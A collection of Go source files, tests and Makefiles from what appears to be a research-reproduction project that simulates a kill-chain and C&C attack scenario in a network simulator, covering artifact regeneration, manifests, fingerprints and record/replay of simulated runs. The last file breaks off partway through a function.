GO ?= go

.PHONY: build vet test test-short race bench bench-smoke ci

## build: compile every package and command
build:
	$(GO) build ./...

## vet: static analysis
vet:
	$(GO) vet ./...

## test: the tier-1 verify — full suite at full statistical strictness
test:
	$(GO) test ./...

## test-short: the fast suite (-short shrinks the crawl corpora)
test-short:
	$(GO) test -short ./...

## race: full suite under the race detector
race:
	$(GO) test -race ./...

## bench: the root benchmark harness (tables, figures, ablations, codecs)
bench:
	$(GO) test -bench=. -benchmem -run='^$$' .

## bench-smoke: every benchmark exactly once, as a does-it-run gate
bench-smoke:
	$(GO) test -bench=. -benchtime=1x -run='^$$' .

## ci: what .github/workflows/ci.yml runs — vet, build, race tests on the
## short corpora (the full-size crawl would dominate the race run), and a
## single-iteration benchmark smoke pass
ci: vet build
	$(GO) test -short -race ./...
	$(MAKE) bench-smoke
