GO ?= go

.PHONY: build vet fmt-check doclint test test-short race bench bench-json bench-smoke soak-smoke fleet-smoke artifacts labd labd-smoke chaos-smoke ci

## build: compile every package and command
build:
	$(GO) build ./...

## vet: static analysis
vet:
	$(GO) vet ./...

## fmt-check: fail if any file needs gofmt
fmt-check:
	@unformatted="$$(gofmt -l .)"; \
	if [ -n "$$unformatted" ]; then \
		echo "gofmt needed on:"; echo "$$unformatted"; exit 1; \
	fi

## doclint: fail if any package lacks a package doc comment
doclint:
	$(GO) run ./cmd/doclint

## test: the tier-1 verify — full suite at full statistical strictness
test:
	$(GO) test ./...

## test-short: the fast suite (-short shrinks the crawl corpora)
test-short:
	$(GO) test -short ./...

## race: full suite under the race detector
race:
	$(GO) test -race ./...

## bench: the root benchmark harness (tables, figures, ablations, codecs)
bench:
	$(GO) test -bench=. -benchmem -run='^$$' .

## bench-json: run the full benchmark suite and refresh the machine-
## readable trajectory in BENCH_10.json — the recorded pre-PR baseline
## is preserved, "current" is replaced, and per-benchmark speedups are
## recomputed (see cmd/benchjson); the fleet-scaling sub-benchmarks
## carry machine-independent cpath-events/op in each metric's "extra"
bench-json:
	@tmp=$$(mktemp) && \
	{ $(GO) test -bench=. -benchmem -run='^$$' . > $$tmp && \
	  $(GO) run ./cmd/benchjson -pr 10 -update BENCH_10.json < $$tmp; } ; \
	status=$$?; rm -f $$tmp; exit $$status

## bench-smoke: every benchmark exactly once, as a does-it-run gate
bench-smoke:
	$(GO) test -bench=. -benchtime=1x -run='^$$' .

## soak-smoke: the short soak gate — a few thousand retransmitting
## echo rounds over a lossy, duplicating link, with the frame-pool
## acquire/release counters required to balance (the full ≥10⁶-event
## soak with ISN wraparound runs in `make test` via TestSoakLongHorizon)
soak-smoke:
	$(GO) test -short -run 'TestSoak' ./internal/experiments

## artifacts: regenerate every artifact (short sizes) as JSON plus the
## run manifest into dist/, and record the scripted kill chain as a
## replay log with its divergence fingerprint — what CI uploads as the
## build artifact
artifacts:
	$(GO) run ./cmd/experiments -run all -sites 400 -days 20 -payload 8192 -format json -out dist
	$(GO) run ./cmd/experiments -record dist/killchain.replay -seed 97

## labd: run the attack-lab orchestrator daemon on loopback (see
## cmd/labd and the Serving section in README.md)
labd:
	$(GO) run ./cmd/labd -listen 127.0.0.1:8970 -store labd-data

## labd-smoke: the serving gate — start a labd daemon on an ephemeral
## loopback port, enqueue one artifact over real net/http, poll it to
## completion, and assert the served SHA-256 fingerprint equals the
## batch CLI's manifest entry for the same spec, params, and format
labd-smoke:
	$(GO) run ./cmd/labd -smoke

## fleet-smoke: the sharded-netsim gate — render both fleet/* artifacts
## at 1, 4, and 8 shard workers and require byte-identical output and
## matching manifest SHA-256 fingerprints (the 10⁵- and 10⁶-bot tiers
## run in `make test` via TestFleetHundredKBotsByteIdentical and
## TestFleetMillionBots)
fleet-smoke:
	$(GO) test -run 'TestFleetSmoke' ./internal/experiments

## chaos-smoke: the kill-point recovery gate — crash the labd "process"
## at every registered fault site along enqueue → run → render →
## persist (first crossing, workers 1/4/8), restart over the surviving
## disk state, and verify the recovery invariants: no acknowledged run
## lost, no sequence reissued, resumable runs resumed to the exact
## batch-CLI fingerprint (the full hit sweep runs in `make test`)
chaos-smoke:
	$(GO) test -short -run 'TestKillPointRecoveryMatrix' ./internal/labd

## ci: what .github/workflows/ci.yml runs — gofmt + vet + doclint, build,
## race tests on the short corpora (the full-size crawl would dominate the
## race run), a single-iteration benchmark smoke pass, the short soak
## gate, the sharded-fleet determinism gate, the serving smoke gate, the
## kill-point recovery gate, and the artifact regeneration
ci: fmt-check vet doclint build
	$(GO) test -short -race ./...
	$(MAKE) bench-smoke
	$(MAKE) soak-smoke
	$(MAKE) fleet-smoke
	$(MAKE) labd-smoke
	$(MAKE) chaos-smoke
	$(MAKE) artifacts
