package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRecordReplayRoundTrip records a kill-chain run, replays it live,
// and checks the written fingerprint file matches the log.
func TestRecordReplayRoundTrip(t *testing.T) {
	dir := t.TempDir()
	log := filepath.Join(dir, "kc.replay")

	var out bytes.Buffer
	if err := run([]string{"-record", log, "-seed", "97"}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "fingerprint ") {
		t.Fatalf("record output misses fingerprint:\n%s", out.String())
	}
	fp, err := os.ReadFile(log + ".fp")
	if err != nil {
		t.Fatal(err)
	}
	if len(bytes.TrimSpace(fp)) != 64 {
		t.Fatalf("fingerprint file %q is not a SHA-256 hex digest", fp)
	}
	if !strings.Contains(out.String(), string(bytes.TrimSpace(fp))) {
		t.Fatal("printed fingerprint differs from .fp file")
	}

	// Live replay against the log: PASS, same fingerprint.
	out.Reset()
	if err := run([]string{"-replay", log, "-seed", "97"}, &out); err != nil {
		t.Fatalf("replay failed: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "PASS") || !strings.Contains(out.String(), string(bytes.TrimSpace(fp))) {
		t.Fatalf("replay output:\n%s", out.String())
	}

	// The offline fingerprint verb agrees with the recorded .fp.
	out.Reset()
	if err := run([]string{"replay", "fingerprint", log}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out.String(), string(bytes.TrimSpace(fp))) {
		t.Fatalf("fingerprint verb disagrees with .fp:\n%s", out.String())
	}
}

// TestReplayPerturbationDiverges injects a slower server into the live
// replay and requires the command to fail, naming the exact event index
// — which must match what the offline diff of two recordings reports.
func TestReplayPerturbationDiverges(t *testing.T) {
	dir := t.TempDir()
	base := filepath.Join(dir, "base.replay")
	pert := filepath.Join(dir, "pert.replay")
	for _, args := range [][]string{
		{"-record", base, "-seed", "97"},
		{"-record", pert, "-seed", "97", "-perturb", "15ms"},
	} {
		if err := run(args, &bytes.Buffer{}); err != nil {
			t.Fatal(err)
		}
	}

	var live bytes.Buffer
	err := run([]string{"-replay", base, "-seed", "97", "-perturb", "15ms"}, &live)
	if err == nil {
		t.Fatalf("perturbed replay passed:\n%s", live.String())
	}
	if !strings.Contains(live.String(), "divergence at event #") {
		t.Fatalf("no divergence report:\n%s", live.String())
	}

	var diff bytes.Buffer
	if err := run([]string{"replay", "diff", base, pert}, &diff); err == nil {
		t.Fatalf("diff of diverging logs succeeded:\n%s", diff.String())
	}
	// Both paths must name the same event index.
	idx := func(s string) string {
		_, after, ok := strings.Cut(s, "divergence at event #")
		if !ok {
			t.Fatalf("no index in:\n%s", s)
		}
		return strings.Fields(after)[0]
	}
	if li, di := idx(live.String()), idx(diff.String()); li != di {
		t.Fatalf("live replay diverged at #%s, offline diff at #%s", li, di)
	}
}

// TestReplayDriveVerb drives a recorded log through stub endpoints,
// faithfully and under compression; a faithful drive must print PASS.
func TestReplayDriveVerb(t *testing.T) {
	log := filepath.Join(t.TempDir(), "kc.replay")
	if err := run([]string{"-record", log, "-seed", "97"}, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	for _, extra := range [][]string{nil, {"-time-div", "8"}} {
		var out bytes.Buffer
		if err := run(append([]string{"replay", "drive", log}, extra...), &out); err != nil {
			t.Fatalf("drive %v: %v\n%s", extra, err, out.String())
		}
		if !strings.Contains(out.String(), "PASS") {
			t.Fatalf("drive %v did not pass:\n%s", extra, out.String())
		}
	}
	// A perturbed drive reports its divergence but is not a command error.
	var out bytes.Buffer
	if err := run([]string{"replay", "drive", log, "-extra-latency", "1ms"}, &out); err != nil {
		t.Fatalf("perturbed drive errored: %v", err)
	}
	if !strings.Contains(out.String(), "divergence at event #0") {
		t.Fatalf("latency perturbation not pinned to event 0:\n%s", out.String())
	}
}

// TestRecordReplayConditions records and replays under a named link
// fault preset: the faulted run must round-trip against its own log but
// fingerprint differently from a clean recording at the same seed.
func TestRecordReplayConditions(t *testing.T) {
	dir := t.TempDir()
	clean := filepath.Join(dir, "clean.replay")
	lossy := filepath.Join(dir, "lossy.replay")
	for _, args := range [][]string{
		{"-record", clean, "-seed", "97"},
		{"-record", lossy, "-seed", "97", "-conditions", "coffee-shop-wifi"},
	} {
		if err := run(args, &bytes.Buffer{}); err != nil {
			t.Fatal(err)
		}
	}

	var out bytes.Buffer
	if err := run([]string{"-replay", lossy, "-seed", "97", "-conditions", "coffee-shop-wifi"}, &out); err != nil {
		t.Fatalf("conditions replay failed: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "PASS") {
		t.Fatalf("conditions replay did not pass:\n%s", out.String())
	}

	cleanFP, err := os.ReadFile(clean + ".fp")
	if err != nil {
		t.Fatal(err)
	}
	lossyFP, err := os.ReadFile(lossy + ".fp")
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(cleanFP, lossyFP) {
		t.Fatal("faulted recording fingerprints identically to the clean one")
	}

	// Replaying the clean log under the fault profile must diverge.
	out.Reset()
	if err := run([]string{"-replay", clean, "-seed", "97", "-conditions", "coffee-shop-wifi"}, &out); err == nil {
		t.Fatalf("clean log replayed under faults passed:\n%s", out.String())
	}
}

// TestConditionsFlagValidation rejects unknown profiles up front (the
// error names the presets) and refuses -conditions outside
// record/replay mode.
func TestConditionsFlagValidation(t *testing.T) {
	log := filepath.Join(t.TempDir(), "kc.replay")
	err := run([]string{"-record", log, "-conditions", "underwater"}, &bytes.Buffer{})
	if err == nil {
		t.Fatal("unknown profile accepted")
	}
	if !strings.Contains(err.Error(), "coffee-shop-wifi") {
		t.Errorf("error %q does not list the presets", err)
	}
	if _, statErr := os.Stat(log); statErr == nil {
		t.Error("log file created despite invalid -conditions (validation not up front)")
	}
	if err := run([]string{"-conditions", "clean", "-run", "replay"}, &bytes.Buffer{}); err == nil {
		t.Fatal("-conditions accepted without -record/-replay")
	}
}

// TestReplayVerbUsage rejects malformed invocations.
func TestReplayVerbUsage(t *testing.T) {
	for _, args := range [][]string{
		{"replay"},
		{"replay", "nope"},
		{"replay", "fingerprint"},
		{"replay", "diff", "only-one"},
		{"replay", "fingerprint", filepath.Join(t.TempDir(), "missing.replay")},
	} {
		if err := run(args, &bytes.Buffer{}); err == nil {
			t.Errorf("args %v accepted", args)
		}
	}
}
