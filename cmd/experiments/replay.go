package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"masterparasite/internal/experiments"
	"masterparasite/internal/netsim"
	"masterparasite/internal/replay"
)

// recordRun captures one scripted kill-chain run into path, writes the
// divergence fingerprint next to it as path+".fp", and prints a summary.
// A non-nil link installs that fault profile on the wire (with tcpsim
// retransmission enabled), so the log captures a degraded-network run.
func recordRun(path string, seed int64, perturb time.Duration, link *netsim.LinkProfile, stdout io.Writer) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	rec := replay.NewRecorder(f)
	runErr := experiments.RunKillChain(experiments.KillChainOpts{Seed: seed, ServerDelay: perturb, Link: link}, rec, nil)
	if closeErr := f.Close(); runErr == nil {
		runErr = closeErr
	}
	if runErr == nil {
		runErr = rec.Err()
	}
	if runErr != nil {
		return fmt.Errorf("record %s: %w", path, runErr)
	}
	fp := rec.Fingerprint()
	if err := os.WriteFile(path+".fp", []byte(fp+"\n"), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(stdout, "recorded %s: seed %d, %d events (%d sends, %d C&C exchanges)\n",
		path, seed, rec.Count(), rec.CountKind(replay.KindSend), rec.CountKind(replay.KindCNC))
	fmt.Fprintf(stdout, "fingerprint %s (written to %s.fp)\n", fp, path)
	return nil
}

// replayRun re-executes the kill chain live against a recorded log,
// checking every wire event as it happens. A clean run prints PASS with
// the shared fingerprint; any difference — e.g. one injected with
// -perturb — is reported at its exact event index and fails the command.
func replayRun(path string, seed int64, perturb time.Duration, link *netsim.LinkProfile, stdout io.Writer) error {
	rp, err := replay.LoadFile(path)
	if err != nil {
		return err
	}
	chk := replay.NewChecker(rp.Events())
	if err := experiments.RunKillChain(experiments.KillChainOpts{Seed: seed, ServerDelay: perturb, Link: link}, nil, chk); err != nil {
		return err
	}
	if div := chk.Finish(); div != nil {
		fmt.Fprintf(stdout, "replay %s: DIVERGED after %d matching events\n%s\n", path, div.Index, div)
		return fmt.Errorf("replay diverged at event #%d", div.Index)
	}
	fmt.Fprintf(stdout, "replay %s: PASS — %d events reproduced, fingerprint %s\n",
		path, len(rp.Events()), rp.Fingerprint())
	return nil
}

// runReplayVerb is the `experiments replay <cmd>` dispatcher for working
// with recorded logs offline: fingerprint, diff, and stub-driven replay.
func runReplayVerb(args []string, stdout io.Writer) error {
	if len(args) == 0 {
		return fmt.Errorf("usage: experiments replay fingerprint FILE | diff A B | drive FILE [flags]")
	}
	switch args[0] {
	case "fingerprint":
		if len(args) != 2 {
			return fmt.Errorf("usage: experiments replay fingerprint FILE")
		}
		rp, err := replay.LoadFile(args[1])
		if err != nil {
			return err
		}
		fmt.Fprintf(stdout, "%s  %s (%d events)\n", rp.Fingerprint(), args[1], len(rp.Events()))
		return nil

	case "diff":
		if len(args) != 3 {
			return fmt.Errorf("usage: experiments replay diff A B")
		}
		a, err := replay.LoadFile(args[1])
		if err != nil {
			return err
		}
		b, err := replay.LoadFile(args[2])
		if err != nil {
			return err
		}
		if div := replay.Diff(a.Events(), b.Events()); div != nil {
			fmt.Fprintf(stdout, "%s\n", div)
			return fmt.Errorf("logs diverge at event #%d", div.Index)
		}
		fmt.Fprintf(stdout, "identical: %d events, fingerprint %s\n", len(a.Events()), a.Fingerprint())
		return nil

	case "drive":
		fs := flag.NewFlagSet("replay drive", flag.ContinueOnError)
		timeDiv := fs.Int("time-div", 1, "compress virtual time by this divisor")
		extraLatency := fs.Duration("extra-latency", 0, "inject extra delay before every send")
		dropEvery := fs.Int("drop-every", 0, "drop every Nth send (0 disables)")
		dupEvery := fs.Int("dup-every", 0, "duplicate every Nth send (0 disables)")
		if len(args) < 2 {
			return fmt.Errorf("usage: experiments replay drive FILE [flags]")
		}
		if err := fs.Parse(args[2:]); err != nil {
			return err
		}
		rp, err := replay.LoadFile(args[1])
		if err != nil {
			return err
		}
		opts := replay.DriveOptions{TimeDiv: *timeDiv, ExtraLatency: *extraLatency,
			DropEvery: *dropEvery, DupEvery: *dupEvery}
		res, err := rp.Drive(opts)
		if err != nil {
			return err
		}
		fmt.Fprintf(stdout, "drove %d sends, recaptured %d send-level events\n", res.Sends, res.Events)
		fmt.Fprintf(stdout, "fingerprint %s\nwant        %s\n", res.Fingerprint, res.WantFingerprint)
		if res.Divergence != nil {
			fmt.Fprintf(stdout, "%s\n", res.Divergence)
			// A perturbed drive is *supposed* to diverge; only a faithful
			// replay failing to reproduce the log is an error.
			if opts == (replay.DriveOptions{TimeDiv: *timeDiv}) {
				return fmt.Errorf("faithful replay diverged at event #%d", res.Divergence.Index)
			}
			return nil
		}
		fmt.Fprintf(stdout, "PASS — replay reproduced the recorded send stream\n")
		return nil

	default:
		return fmt.Errorf("unknown replay subcommand %q (want fingerprint, diff, or drive)", args[0])
	}
}
