package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"masterparasite/internal/artifact"
)

// deterministicRun selects every artifact except the wall-clock cnc
// measurement, at sizes small enough for the race-detector CI run.
var deterministicRun = []string{
	"-run", "table1,table2,table3,table4,table5,fig3,fig5,flows,countermeasures",
	"-sites", "400", "-days", "20",
}

// TestGoldenTextOutput locks the refactor's core promise: the registry
// frontend's `-format text` output is byte-identical to the
// pre-registry CLI (testdata/golden-all.txt was captured from it).
func TestGoldenTextOutput(t *testing.T) {
	if testing.Short() {
		t.Skip("regenerates the full artifact set; run without -short (tier-1 covers it)")
	}
	want, err := os.ReadFile(filepath.Join("testdata", "golden-all.txt"))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := run(append([]string{"-format", "text"}, deterministicRun...), &out); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out.Bytes(), want) {
		t.Fatalf("text output diverged from the pre-registry golden\ngot %d bytes, want %d\nfirst 400 got:\n%.400s\nfirst 400 want:\n%.400s",
			out.Len(), len(want), out.Bytes(), want)
	}
}

// TestRunValidatesIDsUpFront asserts no artifact runs when any
// requested ID is invalid: bad lists fail fast with nothing written.
func TestRunValidatesIDsUpFront(t *testing.T) {
	for _, expr := range []string{"table1,,table2", "table1,table1", "table1,nope", ","} {
		var out bytes.Buffer
		err := run([]string{"-run", expr}, &out)
		if err == nil {
			t.Errorf("expr %q accepted", expr)
			continue
		}
		if out.Len() != 0 {
			t.Errorf("expr %q produced output before failing:\n%.200s", expr, out.String())
		}
	}
}

func TestListPrintsRegistry(t *testing.T) {
	var out bytes.Buffer
	if err := run([]string{"-list"}, &out); err != nil {
		t.Fatal(err)
	}
	for _, id := range artifact.IDs() {
		if !strings.Contains(out.String(), id) {
			t.Fatalf("listing misses %s:\n%s", id, out.String())
		}
	}
}

// TestListDocumentsParallelSemantics pins the -list epilogue: the
// worker-flag documentation (scenario jobs vs. netsim shard workers)
// must be part of the CLI's own output, not only the docs.
func TestListDocumentsParallelSemantics(t *testing.T) {
	var out bytes.Buffer
	if err := run([]string{"-list"}, &out); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"-parallel", "shard workers", "byte-identically", "docs/SCALING.md"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("listing does not document %q:\n%s", want, out.String())
		}
	}
}

// TestOutDirNestsSlashScopedIDs runs a fleet artifact into -out: the
// slash in fleet/infection-curve must become a subdirectory, and the
// manifest fingerprint must cover the nested file.
func TestOutDirNestsSlashScopedIDs(t *testing.T) {
	dir := t.TempDir()
	args := []string{"-run", "fleet/infection-curve", "-lans", "3", "-bots", "40",
		"-format", "json", "-out", dir}
	if err := run(args, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	rendered, err := os.ReadFile(filepath.Join(dir, "fleet", "infection-curve.json"))
	if err != nil {
		t.Fatal(err)
	}
	m, err := artifact.ReadManifest(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Artifacts) != 1 || m.Artifacts[0].ID != "fleet/infection-curve" {
		t.Fatalf("manifest: %+v", m)
	}
	if artifact.Fingerprint(rendered) != m.Artifacts[0].SHA256 {
		t.Fatal("nested artifact file does not match its manifest fingerprint")
	}
}

func TestUnknownFormatRejected(t *testing.T) {
	if err := run([]string{"-format", "yaml"}, &bytes.Buffer{}); err == nil {
		t.Fatal("unknown format accepted")
	}
}

// TestOutDirWritesArtifactsAndManifest runs two artifacts into a
// directory and checks files, manifest entries, and that the JSON
// rendering decodes with the dataset attached.
func TestOutDirWritesArtifactsAndManifest(t *testing.T) {
	dir := t.TempDir()
	args := []string{"-run", "table1,table4", "-format", "json", "-out", dir}
	var out bytes.Buffer
	if err := run(args, &out); err != nil {
		t.Fatal(err)
	}
	if out.Len() != 0 {
		t.Fatalf("-out still wrote to stdout:\n%.200s", out.String())
	}
	for _, id := range []string{"table1", "table4"} {
		b, err := os.ReadFile(filepath.Join(dir, id+".json"))
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			ID      string          `json:"id"`
			Title   string          `json:"title"`
			Dataset json.RawMessage `json:"dataset"`
		}
		if err := json.Unmarshal(b, &doc); err != nil {
			t.Fatalf("%s.json: %v", id, err)
		}
		if doc.ID != id || doc.Title == "" || len(doc.Dataset) == 0 {
			t.Fatalf("%s.json incomplete: %+v", id, doc)
		}
	}
	m, err := artifact.ReadManifest(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Artifacts) != 2 || m.Format != "json" || m.Workers < 1 {
		t.Fatalf("manifest: %+v", m)
	}
	for _, e := range m.Artifacts {
		rendered, err := os.ReadFile(filepath.Join(dir, e.ID+".json"))
		if err != nil {
			t.Fatal(err)
		}
		if artifact.Fingerprint(rendered) != e.SHA256 {
			t.Fatalf("%s: manifest fingerprint does not match the written file", e.ID)
		}
	}
}

// TestManifestFingerprintsParallelInvariant regenerates one
// scenario-fleet artifact at -parallel 1 and -parallel 8 and compares
// the run manifests: the byte-identical guarantee must be checkable
// from the fingerprints alone.
func TestManifestFingerprintsParallelInvariant(t *testing.T) {
	manifestFor := func(parallel string) map[string]string {
		t.Helper()
		path := filepath.Join(t.TempDir(), "manifest.json")
		args := []string{"-run", "table1,table3", "-parallel", parallel, "-manifest", path}
		if err := run(args, &bytes.Buffer{}); err != nil {
			t.Fatal(err)
		}
		m, err := artifact.ReadManifest(path)
		if err != nil {
			t.Fatal(err)
		}
		return m.Fingerprints()
	}
	seq := manifestFor("1")
	par := manifestFor("8")
	if len(seq) != 2 {
		t.Fatalf("fingerprints = %v", seq)
	}
	for id, want := range seq {
		if par[id] != want {
			t.Fatalf("%s: fingerprint differs between -parallel 1 (%.12s) and -parallel 8 (%.12s)", id, want, par[id])
		}
	}
}

// TestFormatsRenderEveryArtifact smoke-renders one cheap artifact in
// every format.
func TestFormatsRenderEveryArtifact(t *testing.T) {
	for _, format := range artifact.Formats() {
		var out bytes.Buffer
		if err := run([]string{"-run", "table4", "-format", format}, &out); err != nil {
			t.Fatalf("format %s: %v", format, err)
		}
		if out.Len() == 0 {
			t.Fatalf("format %s produced no output", format)
		}
	}
}
