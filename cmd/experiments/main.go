// Command experiments regenerates the paper's tables and figures.
//
// Usage:
//
//	experiments -run all
//	experiments -run table1,table5,fig3 -sites 15000 -days 100
//
// Experiment ids: table1 table2 table3 table4 table5 fig3 fig5 cnc flows
// countermeasures all
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"masterparasite/internal/experiments"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("experiments", flag.ContinueOnError)
	runList := fs.String("run", "all", "comma-separated experiment ids, or 'all'")
	sites := fs.Int("sites", 3000, "corpus size for fig3/fig5 (paper: 15000)")
	days := fs.Int("days", 100, "study length in days for fig3")
	payload := fs.Int("payload", 64*1024, "C&C payload bytes for the throughput run")
	if err := fs.Parse(args); err != nil {
		return err
	}

	registry := map[string]func() (*experiments.Result, error){
		"table1":          experiments.TableI,
		"table2":          experiments.TableII,
		"table3":          experiments.TableIII,
		"table4":          experiments.TableIV,
		"table5":          experiments.TableV,
		"fig3":            func() (*experiments.Result, error) { return experiments.Figure3(*sites, *days) },
		"fig5":            func() (*experiments.Result, error) { return experiments.Figure5(*sites) },
		"cnc":             func() (*experiments.Result, error) { return experiments.CNCThroughput(*payload) },
		"flows":           experiments.MessageFlows,
		"countermeasures": experiments.Countermeasures,
	}
	order := []string{"table1", "table2", "table3", "table4", "table5",
		"fig3", "fig5", "cnc", "flows", "countermeasures"}

	var ids []string
	if *runList == "all" {
		ids = order
	} else {
		ids = strings.Split(*runList, ",")
	}
	for _, id := range ids {
		id = strings.TrimSpace(id)
		fn, ok := registry[id]
		if !ok {
			return fmt.Errorf("unknown experiment %q (known: %s)", id, strings.Join(order, " "))
		}
		res, err := fn()
		if err != nil {
			return fmt.Errorf("%s: %w", id, err)
		}
		fmt.Printf("== %s ==\n%s\n", res.Title, res.Text)
	}
	return nil
}
