// Command experiments regenerates the paper's tables and figures
// through the internal/artifact registry.
//
// Usage:
//
//	experiments -list
//	experiments -run all
//	experiments -run table1,table5,fig3 -sites 15000 -days 100
//	experiments -run all -parallel 8 -format json -out dist/
//	experiments -run fleet/infection-curve,fleet/cnc-fanout -lans 64 -bots 1563 -parallel 8
//	experiments -run all -manifest manifest.json
//	experiments -record killchain.replay -seed 97
//	experiments -replay killchain.replay -seed 97 -perturb 15ms
//	experiments -record lossy.replay -seed 97 -conditions coffee-shop-wifi
//	experiments replay fingerprint killchain.replay
//	experiments replay diff a.replay b.replay
//	experiments replay drive killchain.replay -time-div 8
//
// The command itself knows no experiment: internal/experiments
// self-registers one artifact.Spec per table and figure, and this
// frontend is generic flag parsing plus registry lookup. -list prints
// the registry; -run selects artifacts by ID (validated up front —
// unknown, duplicate, or empty IDs abort before anything runs);
// -format picks a renderer (text, json, csv, md); parameter flags
// (-sites, -days, -seed, -payload) are generated from the specs'
// declared params.
//
// -parallel N is one knob with two bindings: scenario-fleet artifacts
// run N independent kill-chain jobs at once, and the fleet/* artifacts
// hand N to the sharded netsim fabric as its shard worker count (see
// docs/SCALING.md). Either way N buys wall-clock time only — it never
// changes a rendered byte.
//
// Every run builds a manifest — artifact IDs, resolved params, base
// seeds, worker count, and the SHA-256 fingerprint of each rendered
// artifact. -out DIR writes one file per artifact plus manifest.json
// into DIR (slash-scoped IDs like fleet/infection-curve nest
// directories); -manifest PATH writes the manifest alone. Because
// deterministic artifacts are byte-identical at any -parallel N, two
// manifests from runs at different worker counts must carry identical
// fingerprints.
//
// -record captures the scripted kill-chain run as an append-only
// wire-event log plus its divergence fingerprint (FILE.fp); -replay
// re-executes the scenario live against such a log and fails at the
// exact divergent event (use -perturb to inject one deliberately;
// -conditions <profile> instead records/replays under a named link
// fault preset with retransmission enabled). The
// `replay` verb operates on logs offline: fingerprint, diff between two
// logs, and stub-driven replay with time compression and perturbations
// (see internal/replay and docs/ARCHITECTURE.md).
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"masterparasite/internal/artifact"
	_ "masterparasite/internal/experiments" // self-registers the paper's artifacts
	"masterparasite/internal/netsim"
	"masterparasite/internal/runner"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	if len(args) > 0 && args[0] == "replay" {
		return runReplayVerb(args[1:], stdout)
	}
	fs := flag.NewFlagSet("experiments", flag.ContinueOnError)
	list := fs.Bool("list", false, "list registered artifacts and exit")
	record := fs.String("record", "", "record a kill-chain run into this replay log (plus .fp fingerprint) and exit")
	replayLog := fs.String("replay", "", "re-run the kill chain live against this recorded log and exit")
	perturb := fs.Duration("perturb", 0, "server-delay override for -record/-replay (0 = scenario default)")
	conditions := fs.String("conditions", "", fmt.Sprintf("link fault profile for -record/-replay (presets: %s)", strings.Join(netsim.ProfileNames(), ", ")))
	runList := fs.String("run", "all", "comma-separated artifact ids, or 'all'")
	format := fs.String("format", "text", fmt.Sprintf("output format: %s", strings.Join(artifact.Formats(), ", ")))
	parallel := fs.Int("parallel", 0, "worker-pool size (0 = GOMAXPROCS, 1 = sequential): scenario fleets run this many kill-chain jobs at once, and the fleet/* artifacts use it as the sharded netsim's shard worker count; deterministic artifacts are byte-identical at any value")
	outDir := fs.String("out", "", "write one file per artifact plus manifest.json into this directory instead of stdout")
	manifestPath := fs.String("manifest", "", "also write the run manifest to this path")

	// One flag per parameter declared by any registered spec.
	paramFlags := make(map[string]*int)
	for _, p := range artifact.ParamFlags() {
		paramFlags[p.Name] = fs.Int(p.Name, p.Default, p.Usage)
	}
	if err := fs.Parse(args); err != nil {
		return err
	}

	if *list {
		return printList(stdout)
	}
	// -conditions is validated before anything runs, whether or not a
	// record/replay was requested, so a typo'd profile name always aborts
	// with the preset list instead of silently running clean.
	var link *netsim.LinkProfile
	if *conditions != "" {
		lp, err := netsim.ProfileByName(*conditions)
		if err != nil {
			return err
		}
		if *record == "" && *replayLog == "" {
			return fmt.Errorf("-conditions %s is only meaningful with -record or -replay", *conditions)
		}
		link = &lp
	}
	if *record != "" || *replayLog != "" {
		seed := int64(*paramFlags["seed"])
		if *record != "" {
			if err := recordRun(*record, seed, *perturb, link, stdout); err != nil {
				return err
			}
		}
		if *replayLog != "" {
			return replayRun(*replayLog, seed, *perturb, link, stdout)
		}
		return nil
	}
	renderer, err := artifact.RendererFor(*format)
	if err != nil {
		return err
	}
	ids, err := artifact.ResolveIDs(*runList)
	if err != nil {
		return err
	}
	overrides := make(map[string]int, len(paramFlags))
	for name, v := range paramFlags {
		overrides[name] = *v
	}
	if *outDir != "" {
		if err := os.MkdirAll(*outDir, 0o755); err != nil {
			return err
		}
	}

	pool := runner.New(*parallel)
	manifest := artifact.NewManifest(renderer.Format(), pool.Workers())
	for _, id := range ids {
		spec, _ := artifact.Get(id) // ResolveIDs validated existence
		res, rendered, err := artifact.RunRendered(spec, pool, overrides, renderer)
		if err != nil {
			return err
		}
		if *outDir != "" {
			name := filepath.Join(*outDir, id+"."+renderer.Ext())
			// Slash-scoped IDs (fleet/infection-curve) nest a directory.
			if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
				return err
			}
			if err := os.WriteFile(name, rendered, 0o644); err != nil {
				return err
			}
		} else if _, err := stdout.Write(rendered); err != nil {
			return err
		}
		manifest.Add(spec, res, rendered)
	}

	if *outDir != "" {
		if err := manifest.WriteFile(filepath.Join(*outDir, "manifest.json")); err != nil {
			return err
		}
	}
	if *manifestPath != "" {
		if err := manifest.WriteFile(*manifestPath); err != nil {
			return err
		}
	}
	return nil
}

// printList renders the registry: one line per artifact with its
// section, determinism, params, and title.
func printList(w io.Writer) error {
